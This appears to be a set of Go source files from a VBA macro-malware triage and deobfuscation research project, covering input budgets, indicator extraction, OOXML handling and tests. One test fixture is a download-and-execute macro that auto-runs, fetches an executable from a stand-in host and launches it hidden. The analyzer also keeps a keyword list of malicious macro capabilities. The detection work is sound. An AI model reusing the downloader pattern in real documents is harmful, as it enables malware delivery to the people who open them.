// CheckDeadline returns a deadline LimitError once the budget's deadline
// has passed. Call it from loops that can run long on hostile input.
func (b *Budget) CheckDeadline() error {
	if b == nil || b.deadline.IsZero() {
		return nil
	}
	if now := time.Now(); now.After(b.deadline) {
		return &LimitError{
			Limit: LimitDeadline,
			Max:   b.deadline.UnixMilli(),
			Got:   now.UnixMilli(),
			Kind:  ErrLimitExceeded,
		}
	}
	return nil
}

// OutputAllowance reports how many more decompressed bytes the budget
// accepts. Unlimited (nil budget) reports a practically-infinite value, so
// callers can bound loops with a single comparison.
func (b *Budget) OutputAllowance() int64 {
	if b == nil {
		return int64(1) << 62
	}
	rem := b.lim.MaxDecompressedBytes - b.decompressed
	if rem < 0 {
		return 0
	}
	return rem
}

// GrowOutput charges n decompressed bytes, returning an ErrBomb-kind
// LimitError when the cumulative total exceeds the budget.
func (b *Budget) GrowOutput(n int64) error {
	if b == nil {
		return nil
	}
	b.decompressed += n
	if b.decompressed > b.lim.MaxDecompressedBytes {
		return &LimitError{
			Limit: LimitDecompressedBytes,
			Max:   b.lim.MaxDecompressedBytes,
			Got:   b.decompressed,
			Kind:  ErrBomb,
		}
	}
	return nil
}

// BombError builds the error GrowOutput would have produced at total got,
// for callers that track output size locally against OutputAllowance.
func (b *Budget) BombError(got int64) error {
	max := int64(0)
	if b != nil {
		max = b.lim.MaxDecompressedBytes
	}
	return &LimitError{Limit: LimitDecompressedBytes, Max: max, Got: got, Kind: ErrBomb}
}

// EnterContainer charges one level of container nesting. Pair with
// ExitContainer when the nested parse completes.
func (b *Budget) EnterContainer() error {
	if b == nil {
		return nil
	}
	b.depth++
	if b.depth > b.lim.MaxContainerDepth {
		return &LimitError{
			Limit: LimitContainerDepth,
			Max:   int64(b.lim.MaxContainerDepth),
			Got:   int64(b.depth),
			Kind:  ErrLimitExceeded,
		}
	}
	return nil
}

// ExitContainer undoes one EnterContainer.
func (b *Budget) ExitContainer() {
	if b != nil && b.depth > 0 {
		b.depth--
	}
}

// VisitDirEntry charges one walked directory entry.
func (b *Budget) VisitDirEntry() error {
	if b == nil {
		return nil
	}
	b.dirEntries++
	if b.dirEntries > b.lim.MaxDirEntries {
		return &LimitError{
			Limit: LimitDirEntries,
			Max:   int64(b.lim.MaxDirEntries),
			Got:   int64(b.dirEntries),
			Kind:  ErrLimitExceeded,
		}
	}
	return nil
}

// VisitArchiveEntry charges one visited ZIP archive entry.
func (b *Budget) VisitArchiveEntry() error {
	if b == nil {
		return nil
	}
	b.arcEntries++
	if b.arcEntries > b.lim.MaxArchiveEntries {
		return &LimitError{
			Limit: LimitArchiveEntries,
			Max:   int64(b.lim.MaxArchiveEntries),
			Got:   int64(b.arcEntries),
			Kind:  ErrLimitExceeded,
		}
	}
	return nil
}

// AddTokens charges n lexer tokens.
func (b *Budget) AddTokens(n int64) error {
	if b == nil {
		return nil
	}
	b.tokens += n
	if b.tokens > b.lim.MaxLexTokens {
		return &LimitError{
			Limit: LimitLexTokens,
			Max:   b.lim.MaxLexTokens,
			Got:   b.tokens,
			Kind:  ErrLimitExceeded,
		}
	}
	return nil
}

// TokenAllowance reports how many more lexer tokens the budget accepts.
func (b *Budget) TokenAllowance() int64 {
	if b == nil {
		return int64(1) << 62
	}
	rem := b.lim.MaxLexTokens - b.tokens
	if rem < 0 {
		return 0
	}
	return rem
}

// AddStorageString charges one recovered storage string and reports
// whether the caller should keep collecting (false once the cap is hit;
// unlike the hard budgets this is a soft truncation, not an error).
func (b *Budget) AddStorageString() bool {
	if b == nil {
		return true
	}
	if b.strings >= b.lim.MaxStorageStrings {
		return false
	}
	b.strings++
	return true
}

// CheckMacroSource returns a LimitError when one macro's source exceeds
// the per-macro size budget.
func (b *Budget) CheckMacroSource(n int64) error {
	if b == nil || n <= b.lim.MaxMacroSourceBytes {
		return nil
	}
	return &LimitError{
		Limit: LimitMacroSourceBytes,
		Max:   b.lim.MaxMacroSourceBytes,
		Got:   n,
		Kind:  ErrLimitExceeded,
	}
}

// Classify buckets an error into its taxonomy class name, for metrics and
// HTTP status mapping. It returns "" for errors outside the taxonomy.
// Classes: "bomb", "deadline", "limit", "cycle", "truncated", "malformed".
func Classify(err error) string {
	if err == nil {
		return ""
	}
	var le *LimitError
	if errors.As(err, &le) {
		switch {
		case le.Limit == LimitDeadline:
			return "deadline"
		case errors.Is(le.Kind, ErrBomb):
			return "bomb"
		default:
			return "limit"
		}
	}
	switch {
	case errors.Is(err, ErrBomb):
		return "bomb"
	case errors.Is(err, ErrLimitExceeded):
		return "limit"
	case errors.Is(err, ErrCycle):
		return "cycle"
	case errors.Is(err, ErrTruncated):
		return "truncated"
	case errors.Is(err, ErrMalformed):
		return "malformed"
	default:
		return ""
	}
}

// ExhaustsBudget reports whether err represents an exhausted resource
// budget — the quarantine criterion: such a document deliberately (or
// pathologically) consumed more than its share and should be set aside,
// not retried.
func ExhaustsBudget(err error) bool {
	var le *LimitError
	return errors.As(err, &le)
}

// LimitName extracts the tripped limit's name from err ("" when err is not
// a budget exhaustion), for per-limit metric counters.
func LimitName(err error) string {
	var le *LimitError
	if errors.As(err, &le) {
		return le.Limit
	}
	return ""
}

// IsTransient reports whether err is worth retrying: an explicit
// ErrTransient wrap, a timeout-flagged net error, or an interrupted /
// temporarily-unavailable syscall while loading the document. Parse
// failures and budget exhaustion are never transient — the same bytes
// will fail the same way.
func IsTransient(err error) bool {
	if err == nil || ExhaustsBudget(err) {
		return false
	}
	if errors.Is(err, ErrTransient) {
		return true
	}
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		return true
	}
	return errors.Is(err, syscall.EINTR) ||
		errors.Is(err, syscall.EAGAIN) ||
		errors.Is(err, syscall.EBUSY)
}
