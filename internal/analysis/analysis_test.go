package analysis

import (
	"strings"
	"testing"

	"repro/internal/obfuscate"
)

const downloader = `Sub AutoOpen()
    Dim u As String
    Dim d As String
    u = "http://files-mirror.example/kit/update.exe"
    d = "C:\Users\Public\update.exe"
    r = URLDownloadToFile(0, u, d, 0, 0)
    If r = 0 Then
        Shell d, vbHide
    End If
End Sub
`

func kindsOf(rep *Report, k Kind) []string {
	var out []string
	for _, f := range rep.Findings {
		if f.Kind == k {
			out = append(out, f.Value)
		}
	}
	return out
}

func TestAnalyzePlainDownloader(t *testing.T) {
	rep := Analyze(downloader)
	if !rep.HasAutoExec() {
		t.Error("AutoOpen not detected")
	}
	if !rep.Suspicious() {
		t.Error("no suspicious keywords")
	}
	urls := kindsOf(rep, KindIOCURL)
	if len(urls) != 1 || urls[0] != "http://files-mirror.example/kit/update.exe" {
		t.Errorf("urls = %q", urls)
	}
	exes := kindsOf(rep, KindIOCExecutable)
	if len(exes) == 0 {
		t.Error("no executables found")
	}
	paths := kindsOf(rep, KindIOCPath)
	found := false
	for _, p := range paths {
		if strings.HasPrefix(p, `C:\Users\Public`) {
			found = true
		}
	}
	if !found {
		t.Errorf("paths = %q", paths)
	}
	// Nothing needed deobfuscation.
	for _, f := range rep.Findings {
		if f.FromDeobfuscation {
			t.Errorf("finding %v marked FromDeobfuscation on plain source", f)
		}
	}
}

func TestAnalyzeObfuscatedRevealsHiddenIOCs(t *testing.T) {
	obf := obfuscate.Apply(downloader, obfuscate.Options{
		Seed: 3, Encode: true, Mode: obfuscate.EncodeChr, EncodeFraction: 1,
		Split: true, Indent: obfuscate.IndentKeep,
	})
	if strings.Contains(obf, "files-mirror.example/kit") {
		t.Fatal("obfuscation left the URL visible")
	}
	rep := Analyze(obf)
	var revealedURL bool
	for _, f := range rep.Findings {
		if f.Kind == KindIOCURL && strings.Contains(f.Value, "files-mirror.example") {
			if !f.FromDeobfuscation {
				t.Error("hidden URL not marked FromDeobfuscation")
			}
			revealedURL = true
		}
	}
	if !revealedURL {
		t.Errorf("URL not recovered; findings = %+v", rep.Findings)
	}
	if rep.Folds == 0 {
		t.Error("no folds recorded")
	}
}

func TestAnalyzeBenignQuiet(t *testing.T) {
	benign := `Sub UpdateReport()
    ' accumulate the totals
    Dim i As Long
    For i = 1 To 10
        total = total + Cells(i, 1).Value
    Next i
End Sub
`
	rep := Analyze(benign)
	if rep.HasAutoExec() {
		t.Error("benign macro flagged autoexec")
	}
	if len(rep.IOCs()) != 0 {
		t.Errorf("benign IOCs = %+v", rep.IOCs())
	}
}

func TestFindURLs(t *testing.T) {
	urls := findURLs(`a = "https://x.test/a?b=1" : b = "ftp://host/f" : c = "http://"`)
	if len(urls) != 2 {
		t.Fatalf("urls = %q", urls)
	}
	if urls[0] != "ftp://host/f" && urls[1] != "ftp://host/f" && len(urls) == 2 {
		// order is by scheme list; just check membership
		joined := strings.Join(urls, "|")
		if !strings.Contains(joined, "https://x.test/a?b=1") || !strings.Contains(joined, "ftp://host/f") {
			t.Errorf("urls = %q", urls)
		}
	}
}

func TestFindIPs(t *testing.T) {
	ips := findIPs("connect to 10.0.0.1 then 256.1.1.1 and 1.2.3.4.5 and 192.168.10.20")
	want := map[string]bool{"10.0.0.1": true, "192.168.10.20": true}
	if len(ips) != len(want) {
		t.Fatalf("ips = %q", ips)
	}
	for _, ip := range ips {
		if !want[ip] {
			t.Errorf("unexpected ip %q", ip)
		}
	}
}

func TestFindExecutables(t *testing.T) {
	exes := findExecutables(`run setup.exe or payload.scr or note.txt or script.ps1x`)
	joined := strings.Join(exes, "|")
	if !strings.Contains(joined, "setup.exe") || !strings.Contains(joined, "payload.scr") {
		t.Errorf("exes = %q", exes)
	}
	if strings.Contains(joined, "note.txt") || strings.Contains(joined, "ps1x") {
		t.Errorf("false positives: %q", exes)
	}
}

func TestFindPaths(t *testing.T) {
	paths := findPaths(`copy C:\Program Files\tool\a.exe to \\share\drop\x.bin done`)
	joined := strings.Join(paths, "|")
	if !strings.Contains(joined, `C:\Program Files\tool\a.exe`) {
		t.Errorf("drive path missing: %q", paths)
	}
	if !strings.Contains(joined, `\\share\drop\x.bin`) {
		t.Errorf("UNC path missing: %q", paths)
	}
}

func TestKindString(t *testing.T) {
	kinds := map[Kind]string{
		KindAutoExec: "autoexec", KindSuspicious: "suspicious",
		KindIOCURL: "ioc-url", KindIOCIP: "ioc-ip",
		KindIOCExecutable: "ioc-executable", KindIOCPath: "ioc-path",
		Kind(99): "unknown",
	}
	for k, want := range kinds {
		if k.String() != want {
			t.Errorf("%d.String() = %q", int(k), k.String())
		}
	}
}

func TestAnalyzeEmptySafe(t *testing.T) {
	rep := Analyze("")
	if len(rep.Findings) != 0 {
		t.Errorf("findings = %+v", rep.Findings)
	}
}
