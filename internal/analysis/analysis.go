// Package analysis provides olevba-style triage of macro source: it
// detects auto-execution entry points, suspicious capability keywords, and
// indicators of compromise (URLs, IPv4 addresses, executable names,
// filesystem paths). Combined with deob, it recovers the signal that
// obfuscation hides — the workflow the paper describes AV analysts using.
package analysis

import (
	"sort"
	"strings"

	"repro/internal/deob"
	"repro/internal/vba"
)

// Kind classifies a finding.
type Kind int

// Finding kinds.
const (
	// KindAutoExec marks an auto-execution entry point (AutoOpen,
	// Document_Open, ...).
	KindAutoExec Kind = iota + 1
	// KindSuspicious marks a capability keyword (Shell, CreateObject,
	// URLDownloadToFile, ...).
	KindSuspicious
	// KindIOCURL marks a URL.
	KindIOCURL
	// KindIOCIP marks an IPv4 address.
	KindIOCIP
	// KindIOCExecutable marks an executable or script file name.
	KindIOCExecutable
	// KindIOCPath marks a Windows filesystem path.
	KindIOCPath
)

// String names the kind.
func (k Kind) String() string {
	switch k {
	case KindAutoExec:
		return "autoexec"
	case KindSuspicious:
		return "suspicious"
	case KindIOCURL:
		return "ioc-url"
	case KindIOCIP:
		return "ioc-ip"
	case KindIOCExecutable:
		return "ioc-executable"
	case KindIOCPath:
		return "ioc-path"
	default:
		return "unknown"
	}
}

// Finding is one triage result.
type Finding struct {
	Kind Kind
	// Value is the matched identifier, keyword or indicator.
	Value string
	// FromDeobfuscation reports that the finding only appeared after
	// constant folding — i.e. obfuscation was hiding it.
	FromDeobfuscation bool
}

// Report is the triage outcome for one macro.
type Report struct {
	Findings []Finding
	// Folds is the number of constant expressions the deobfuscation pass
	// resolved.
	Folds int
}

// HasAutoExec reports whether any auto-execution entry point was found.
func (r *Report) HasAutoExec() bool { return r.count(KindAutoExec) > 0 }

// Suspicious reports whether any capability keyword was found.
func (r *Report) Suspicious() bool { return r.count(KindSuspicious) > 0 }

// IOCs returns only the indicator findings.
func (r *Report) IOCs() []Finding {
	var out []Finding
	for _, f := range r.Findings {
		switch f.Kind {
		case KindIOCURL, KindIOCIP, KindIOCExecutable, KindIOCPath:
			out = append(out, f)
		}
	}
	return out
}

func (r *Report) count(k Kind) int {
	n := 0
	for _, f := range r.Findings {
		if f.Kind == k {
			n++
		}
	}
	return n
}

// autoExecNames per [MS-OVBA]/olevba: procedures run on open/close events.
var autoExecNames = []string{
	"autoopen", "autoclose", "autoexec", "autoexit", "autonew",
	"auto_open", "auto_close", "document_open", "document_close",
	"document_new", "workbook_open", "workbook_close",
	"workbook_beforeclose",
}

// suspiciousKeywords are the capability markers olevba reports.
var suspiciousKeywords = []string{
	"Shell", "ShellExecute", "CreateObject", "GetObject", "CallByName",
	"URLDownloadToFile", "WScript.Shell", "powershell", "cmd.exe",
	"ADODB.Stream", "MSXML2.XMLHTTP", "Microsoft.XMLHTTP", "SendKeys",
	"CreateThread", "VirtualAlloc", "RtlMoveMemory", "Environ",
	"Kill", "FileCopy", "SaveToFile", "responseBody", "ExecuteExcel4Macro",
	"RegWrite", "ShowWindow", "vbHide",
}

// executableExtensions flag IOC file names.
var executableExtensions = []string{
	".exe", ".scr", ".dll", ".bat", ".cmd", ".vbs", ".js", ".ps1",
	".jar", ".pif",
}

// Analyze triages src: it scans the raw source, then deobfuscates and
// scans again, marking findings that only the folded text reveals.
func Analyze(src string) *Report {
	return AnalyzeModule(vba.Parse(src))
}

// AnalyzeModule is Analyze for an already-parsed module. The base scan and
// the deobfuscation pass both reuse m's parse, so a pipeline that has
// already featurized the macro (features.Analyze) triages it without
// re-lexing the source.
func AnalyzeModule(m *vba.Module) *Report {
	src := m.Source
	rep := &Report{}
	base := scanModule(src, m)
	dres := deob.DeobfuscateModule(m)
	rep.Folds = dres.Folds
	after := base
	if dres.Folds > 0 {
		// Only re-scan when folding actually rewrote the text.
		after = scan(dres.Source)
	}
	// Recovered strings may hold IOCs that never appear as whole tokens
	// in either text (e.g. hidden URLs recovered from decoders).
	for _, s := range dres.Recovered {
		for _, f := range scanText(s) {
			after[key(f)] = f
		}
	}

	var keys []string
	for k := range after {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		f := after[k]
		if _, inBase := base[k]; !inBase {
			f.FromDeobfuscation = true
		}
		rep.Findings = append(rep.Findings, f)
	}
	return rep
}

func key(f Finding) string { return f.Kind.String() + "\x00" + strings.ToLower(f.Value) }

// scan extracts findings from macro source: procedure names for autoexec,
// keywords anywhere, and IOC patterns in string literals and raw text.
func scan(src string) map[string]Finding {
	return scanModule(src, vba.Parse(src))
}

// scanModule is scan over a pre-parsed module (src must be m.Source).
func scanModule(src string, m *vba.Module) map[string]Finding {
	out := map[string]Finding{}
	for _, p := range m.Procedures {
		lower := strings.ToLower(p.Name)
		for _, name := range autoExecNames {
			if lower == name {
				add(out, Finding{Kind: KindAutoExec, Value: p.Name})
			}
		}
	}
	lowerSrc := strings.ToLower(src)
	for _, kw := range suspiciousKeywords {
		if strings.Contains(lowerSrc, strings.ToLower(kw)) {
			add(out, Finding{Kind: KindSuspicious, Value: kw})
		}
	}
	for _, f := range scanText(src) {
		add(out, f)
	}
	return out
}

func add(m map[string]Finding, f Finding) { m[key(f)] = f }

// scanText extracts IOC patterns from arbitrary text.
func scanText(text string) []Finding {
	var out []Finding
	for _, u := range findURLs(text) {
		out = append(out, Finding{Kind: KindIOCURL, Value: u})
	}
	for _, ip := range findIPs(text) {
		out = append(out, Finding{Kind: KindIOCIP, Value: ip})
	}
	for _, e := range findExecutables(text) {
		out = append(out, Finding{Kind: KindIOCExecutable, Value: e})
	}
	for _, p := range findPaths(text) {
		out = append(out, Finding{Kind: KindIOCPath, Value: p})
	}
	return out
}

// findURLs locates http(s):// and ftp:// URLs.
func findURLs(text string) []string {
	var out []string
	lower := strings.ToLower(text)
	for _, scheme := range []string{"http://", "https://", "ftp://"} {
		from := 0
		for {
			i := strings.Index(lower[from:], scheme)
			if i < 0 {
				break
			}
			start := from + i
			end := start
			for end < len(text) && isURLChar(text[end]) {
				end++
			}
			if end > start+len(scheme) {
				out = append(out, text[start:end])
			}
			from = end
		}
	}
	return out
}

func isURLChar(c byte) bool {
	switch {
	case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
		return true
	}
	return strings.IndexByte(":/.?&=%-_+#~@!$,;()[]*'", c) >= 0
}

// findIPs locates dotted-quad IPv4 addresses.
func findIPs(text string) []string {
	var out []string
	for i := 0; i < len(text); i++ {
		if text[i] < '0' || text[i] > '9' {
			continue
		}
		if i > 0 && (isDigit(text[i-1]) || text[i-1] == '.') {
			continue
		}
		candidate, ok := parseIPv4At(text, i)
		if ok {
			out = append(out, candidate)
			i += len(candidate) - 1
		}
	}
	return out
}

func parseIPv4At(text string, i int) (string, bool) {
	start := i
	for octet := 0; octet < 4; octet++ {
		j := i
		val := 0
		for j < len(text) && isDigit(text[j]) && j-i < 3 {
			val = val*10 + int(text[j]-'0')
			j++
		}
		if j == i || val > 255 {
			return "", false
		}
		i = j
		if octet < 3 {
			if i >= len(text) || text[i] != '.' {
				return "", false
			}
			i++
		}
	}
	// Reject trailing digits/dots (versions like 1.2.3.4.5).
	if i < len(text) && (isDigit(text[i]) || text[i] == '.') {
		return "", false
	}
	return text[start:i], true
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

// findExecutables locates names with executable extensions.
func findExecutables(text string) []string {
	var out []string
	lower := strings.ToLower(text)
	for _, ext := range executableExtensions {
		from := 0
		for {
			i := strings.Index(lower[from:], ext)
			if i < 0 {
				break
			}
			pos := from + i
			end := pos + len(ext)
			// Extension must terminate the name.
			if end < len(text) && isNameChar(text[end]) {
				from = end
				continue
			}
			start := pos
			for start > 0 && isNameChar(text[start-1]) {
				start--
			}
			if start < pos {
				out = append(out, text[start:end])
			}
			from = end
		}
	}
	return out
}

func isNameChar(c byte) bool {
	switch {
	case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
		return true
	case c == '_' || c == '-' || c == '.':
		return true
	}
	return false
}

// findPaths locates Windows paths (drive-letter and UNC).
func findPaths(text string) []string {
	var out []string
	for i := 0; i+2 < len(text); i++ {
		isDrive := (text[i] >= 'A' && text[i] <= 'Z' || text[i] >= 'a' && text[i] <= 'z') &&
			text[i+1] == ':' && text[i+2] == '\\'
		isUNC := text[i] == '\\' && text[i+1] == '\\' && isNameChar(text[i+2]) &&
			(i == 0 || text[i-1] != '\\')
		if !isDrive && !isUNC {
			continue
		}
		end := i + 3
		for end < len(text) && (isNameChar(text[end]) || text[end] == '\\' || text[end] == ' ' && end+1 < len(text) && isNameChar(text[end+1])) {
			end++
		}
		if end > i+3 {
			out = append(out, strings.TrimRight(text[i:end], " "))
			i = end
		}
	}
	return out
}

// ScanIndicators extracts IOC findings from arbitrary text — used for
// strings recovered from document storage (form captions, document
// variables), where hidden-string anti-analysis parks its payloads.
func ScanIndicators(text string) []Finding {
	return scanText(text)
}
