package ooxml

import (
	"archive/zip"
	"bytes"
	"errors"
	"testing"
)

func TestWriteExtractRoundTrip(t *testing.T) {
	vba := []byte("pretend-vba-project-bytes")
	for _, kind := range []DocKind{DocWord, DocExcel} {
		data, err := Write(kind, vba, 0)
		if err != nil {
			t.Fatalf("Write(%v): %v", kind, err)
		}
		if !IsOOXML(data) {
			t.Errorf("Write(%v) output not detected as OOXML", kind)
		}
		got, err := ExtractVBAProject(data)
		if err != nil {
			t.Fatalf("ExtractVBAProject(%v): %v", kind, err)
		}
		if !bytes.Equal(got, vba) {
			t.Errorf("kind %v: vba part mismatch", kind)
		}
	}
}

func TestWritePadding(t *testing.T) {
	vba := []byte("x")
	const target = 50_000
	data, err := Write(DocWord, vba, target)
	if err != nil {
		t.Fatal(err)
	}
	if len(data) < target*8/10 || len(data) > target*12/10 {
		t.Errorf("padded size = %d, want within 20%% of %d", len(data), target)
	}
	if _, err := ExtractVBAProject(data); err != nil {
		t.Errorf("padded document unreadable: %v", err)
	}
}

func TestWriteStructure(t *testing.T) {
	data, err := Write(DocExcel, []byte("v"), 0)
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, f := range zr.File {
		names[f.Name] = true
	}
	for _, want := range []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/vbaProject.bin"} {
		if !names[want] {
			t.Errorf("part %q missing; have %v", want, names)
		}
	}
}

func TestExtractErrors(t *testing.T) {
	if _, err := ExtractVBAProject([]byte("not a zip")); !errors.Is(err, ErrNotZip) {
		t.Errorf("garbage: err = %v, want ErrNotZip", err)
	}
	// A valid zip with no vba part.
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.Create("word/document.xml")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write([]byte("<x/>")); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := ExtractVBAProject(buf.Bytes()); !errors.Is(err, ErrNoVBAPart) {
		t.Errorf("no part: err = %v, want ErrNoVBAPart", err)
	}
}

func TestExtractRelocatedPart(t *testing.T) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.Create("strange/place/vbaProject.bin")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write([]byte("hidden")); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	got, err := ExtractVBAProject(buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "hidden" {
		t.Errorf("got %q", got)
	}
}

func TestWriteUnknownKind(t *testing.T) {
	if _, err := Write(DocKind(0), nil, 0); err == nil {
		t.Error("Write accepted unknown kind")
	}
}

func TestIsOOXML(t *testing.T) {
	if IsOOXML([]byte{0xD0, 0xCF, 0x11, 0xE0}) {
		t.Error("OLE header detected as OOXML")
	}
	if IsOOXML([]byte{'P', 'K'}) {
		t.Error("short data detected as OOXML")
	}
	if !IsOOXML([]byte{'P', 'K', 3, 4, 0}) {
		t.Error("zip header not detected")
	}
}
