// Package ooxml reads and writes macro-enabled Office Open XML documents
// (.docm, .xlsm) to the extent needed for VBA macro analysis: locating and
// embedding the vbaProject.bin binary part inside the ZIP container.
//
// The writer produces a structurally valid minimal document (content types,
// relationships, a main part, and the VBA part) so that the extraction
// pipeline exercises the same path olevba does on real files.
package ooxml

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"strings"

	"repro/internal/hostile"
)

// ErrNoVBAPart is returned when the archive holds no vbaProject.bin.
var ErrNoVBAPart = errors.New("ooxml: no vbaProject.bin part found")

// ErrNotZip is returned when data is not a ZIP archive.
var ErrNotZip = errors.New("ooxml: not a ZIP archive")

// DocKind selects the host-application flavor emitted by Write.
type DocKind int

// Supported document kinds.
const (
	DocWord DocKind = iota + 1
	DocExcel
)

// IsOOXML reports whether data begins with the ZIP local-file signature.
func IsOOXML(data []byte) bool {
	return len(data) >= 4 && data[0] == 'P' && data[1] == 'K' && data[2] == 3 && data[3] == 4
}

// ExtractVBAProject returns the raw bytes of the vbaProject.bin part of a
// macro-enabled OOXML document, under the default resource budget. Per
// convention the part lives at word/vbaProject.bin or xl/vbaProject.bin,
// but any path ending in vbaProject.bin is accepted, as attackers relocate
// it.
func ExtractVBAProject(data []byte) ([]byte, error) {
	return ExtractVBAProjectBudget(data, hostile.NewBudget(hostile.DefaultLimits()))
}

// ExtractVBAProjectBudget is ExtractVBAProject with an explicit resource
// budget. ZIP is the pipeline's highest-ratio bomb surface (DEFLATE of
// zeros exceeds 1000:1), so the part is inflated through a limited reader
// that stops at the budget's decompressed-byte allowance instead of
// trusting the archive's declared sizes; the declared size only clamps the
// initial allocation, never drives it. A nil budget disables the limits.
func ExtractVBAProjectBudget(data []byte, bud *hostile.Budget) ([]byte, error) {
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return nil, fmt.Errorf("%w: %v (%w)", ErrNotZip, err, hostile.ErrMalformed)
	}
	for _, f := range zr.File {
		if strings.HasSuffix(strings.ToLower(f.Name), "vbaproject.bin") {
			rc, err := f.Open()
			if err != nil {
				return nil, fmt.Errorf("ooxml: open %s: %v (%w)", f.Name, err, hostile.ErrMalformed)
			}
			defer rc.Close()
			allow := bud.OutputAllowance()
			// Pre-size from the declared length, clamped to the allowance:
			// the header is attacker-controlled and must never size an
			// allocation on its own.
			capHint := int64(f.UncompressedSize64)
			if capHint > allow {
				capHint = allow
			}
			if capHint > 1<<20 {
				capHint = 1 << 20
			}
			buf := bytes.NewBuffer(make([]byte, 0, capHint))
			n, err := io.Copy(buf, io.LimitReader(rc, allow+1))
			if err != nil {
				return nil, fmt.Errorf("ooxml: read %s: %v (%w)", f.Name, err, hostile.ErrTruncated)
			}
			if n > allow {
				return nil, fmt.Errorf("ooxml: part %s: %w", f.Name, bud.BombError(n))
			}
			if err := bud.GrowOutput(n); err != nil {
				return nil, fmt.Errorf("ooxml: part %s: %w", f.Name, err)
			}
			return buf.Bytes(), nil
		}
	}
	return nil, ErrNoVBAPart
}

// Write builds a minimal macro-enabled document of the given kind embedding
// vbaProject as its VBA part, plus enough filler to reach approximately
// padToSize bytes (0 disables padding). Padding is stored (not deflated)
// XML comment data inside the main part so the output file size is
// controllable by the corpus generator.
func Write(kind DocKind, vbaProject []byte, padToSize int) ([]byte, error) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)

	var mainDir, mainPart, contentType, mainContentType string
	switch kind {
	case DocWord:
		mainDir, mainPart = "word", "document.xml"
		contentType = "application/vnd.ms-word.document.macroEnabled.main+xml"
		mainContentType = contentType
	case DocExcel:
		mainDir, mainPart = "xl", "workbook.xml"
		contentType = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
		mainContentType = contentType
	default:
		return nil, fmt.Errorf("ooxml: unknown document kind %d", kind)
	}

	add := func(name, body string) error {
		w, err := zw.Create(name)
		if err != nil {
			return err
		}
		_, err = io.WriteString(w, body)
		return err
	}

	contentTypes := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
<Override PartName="/` + mainDir + `/` + mainPart + `" ContentType="` + mainContentType + `"/>
</Types>`
	if err := add("[Content_Types].xml", contentTypes); err != nil {
		return nil, err
	}

	rels := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="` + mainDir + `/` + mainPart + `"/>
</Relationships>`
	if err := add("_rels/.rels", rels); err != nil {
		return nil, err
	}

	partRels := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
</Relationships>`
	if err := add(mainDir+"/_rels/"+mainPart+".rels", partRels); err != nil {
		return nil, err
	}

	var main string
	if kind == DocWord {
		main = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>Synthetic corpus document.</w:t></w:r></w:p></w:body>
</w:document>`
	} else {
		main = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<sheets><sheet name="Sheet1" sheetId="1" r:id="rId2" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets>
</workbook>`
	}
	if err := add(mainDir+"/"+mainPart, main); err != nil {
		return nil, err
	}

	vbaWriter, err := zw.Create(mainDir + "/vbaProject.bin")
	if err != nil {
		return nil, err
	}
	if _, err := vbaWriter.Write(vbaProject); err != nil {
		return nil, err
	}

	// Size padding: a stored (uncompressed) filler part so the generator
	// can reproduce the paper's file-size statistics (Table II).
	overhead := buf.Len() + 1024
	if padToSize > overhead {
		hdr := &zip.FileHeader{Name: mainDir + "/media/filler.bin", Method: zip.Store}
		fw, err := zw.CreateHeader(hdr)
		if err != nil {
			return nil, err
		}
		filler := make([]byte, padToSize-overhead)
		for i := range filler {
			filler[i] = byte(i*7 + i>>8) // incompressible-ish, deterministic
		}
		if _, err := fw.Write(filler); err != nil {
			return nil, err
		}
	}

	if err := zw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}
