// Package deob statically reverses the string-level obfuscation families
// O2 (split) and O3 (encoding) by constant-folding VBA expressions:
// concatenations of literals, Chr()/ChrW() of constant codes, Replace()
// with literal arguments, StrReverse(), and calls to self-contained
// user-defined decoder functions over Array(...) payloads.
//
// This is the deobfuscation direction the paper surveys through JSDES
// (§II.B): recovering the hidden keywords ("URLDownloadToFile",
// "powershell", URLs, paths) that signature scanners need. The package
// does not execute macros — folding is purely syntactic and only fires on
// provably constant expressions.
package deob

import (
	"strconv"
	"strings"

	"repro/internal/vba"
)

